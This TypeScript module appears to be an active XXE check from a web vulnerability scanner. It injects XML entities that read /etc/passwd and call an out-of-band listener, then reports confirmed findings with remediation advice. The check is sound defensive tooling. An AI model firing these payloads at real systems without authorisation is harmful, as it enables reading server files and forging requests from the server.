// XML external entities: where the application takes XML (a parameter holding an XML document, or a URL that
// answers XML and is sent XML), a document whose entity names a local file (its signature comes back) or the
// out-of-band listener (the parser calls it) proves external entities are resolved.
import { excerpt, requestText } from '../../http.ts';
import { inject, pointFinding } from '../../inject.ts';
import type { CrawledPage, InsertionPoint, WebFinding, WebResponse, WebTest, WebTestContext } from '../../types.ts';

const PASSWD = /root:[x*]?:0:0:/;
const XML_VALUE = /^\s*(<\?xml[^>]*>\s*)?<([A-Za-z_][\w.:-]*)[^>]*>[\s\S]*<\/\2>\s*$/;

/** The document (its own declaration and DOCTYPE taken off) with a DOCTYPE declaring `decl`; with `ref`, `&bwk;` is
 * the first element's text. */
function withEntity(doc: string, decl: string, ref = true): string {
  const bare = doc
    .replace(/^\s*<\?xml[^>]*\?>\s*/, '')
    .replace(/<!DOCTYPE[^>[]*(\[[\s\S]*?\])?\s*>/i, '')
    .trim();
  const root = /^<([A-Za-z_][\w.:-]*)/.exec(bare)?.[1] ?? 'bwk';
  const body = ref ? bare.replace(/^((?:<[^/!?][^>]*>\s*)+)[^<]*/, '$1&bwk;') : bare;
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [${decl}]>\n${body}`;
}

const FILE_DECL = '<!ENTITY bwk SYSTEM "file:///etc/passwd">';

async function probes(
  send: (doc: string) => Promise<WebResponse>,
  doc: string,
  ctx: WebTestContext,
): Promise<{ res: WebResponse; payload: string; proof: string; how: string; around: string | RegExp } | null> {
  const base = await send(doc);
  if (!PASSWD.test(base.body)) {
    const payload = withEntity(doc, FILE_DECL);
    const res = await send(payload);
    const m = PASSWD.exec(res.body);
    if (m) return { res, payload, proof: `/etc/passwd: ${m[0]}`, how: 'contents of /etc/passwd in the response', around: PASSWD };
  }
  if (ctx.oob) {
    for (const param of [false, true]) {
      const { token, url } = ctx.oob.url();
      const payload = param
        ? withEntity(doc, `<!ENTITY % bwkp SYSTEM "${url}"> %bwkp;`, false)
        : withEntity(doc, `<!ENTITY bwk SYSTEM "${url}">`);
      const res = await send(payload);
      const call = await ctx.oob.called(token, 2000);
      if (call)
        return {
          res,
          payload,
          proof: `${call.from} requested ${url}`,
          how: `callback received from ${call.from}`,
          around: '',
        };
    }
  }
  return null;
}

export const xxe: WebTest = {
  id: 'web-xxe',
  name: 'XML external entities (XXE)',
  category: 'xxe',
  severity: 4,
  cwe: ['CWE-611'],
  owasp: 'A05:2021',
  description:
    "The application's XML parser resolves external entities: a document sent to it reads local files or makes the " +
    'server request URLs (SSRF), and can exhaust it.',
  solution:
    'Turn off DTD processing (or at least external entities and parameter entities) in the XML parser; prefer JSON ' +
    'for APIs; keep XML libraries up to date.',
  references: [
    'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
  ],
  kind: 'active',
  async point(point: InsertionPoint, ctx: WebTestContext): Promise<WebFinding[]> {
    if (!XML_VALUE.test(point.value)) return [];
    const hit = await probes((doc) => inject(point, doc, ctx), point.value, ctx);
    if (!hit) return [];
    return [
      pointFinding('web-xxe', point, hit.res, {
        payload: hit.payload,
        proof: hit.proof,
        around: hit.around,
        how: hit.how,
        confidence: 'confirmed',
      }),
    ];
  },
  async page(page: CrawledPage, ctx: WebTestContext): Promise<WebFinding[]> {
    // A URL that answers XML is sent XML (its own answer as the document when it is one).
    if (!/[/+]xml\b/i.test(page.contentType)) return [];
    const doc = XML_VALUE.test(page.response.body) && page.response.body.length < 20_000 ? page.response.body : '<bwk>x</bwk>';
    const send = (body: string): Promise<WebResponse> =>
      ctx.client.send({ method: 'POST', url: page.url, headers: { 'content-type': 'application/xml' }, body });
    const hit = await probes(send, doc, ctx);
    if (!hit) return [];
    return [
      {
        test: 'web-xxe',
        url: page.url,
        method: 'POST',
        location: 'body',
        payload: hit.payload,
        confidence: 'confirmed',
        evidence: {
          request: requestText(hit.res),
          response: excerpt(hit.res.body, hit.around || hit.proof),
          proof: hit.proof,
          how: hit.how,
        },
      },
    ];
  },
};
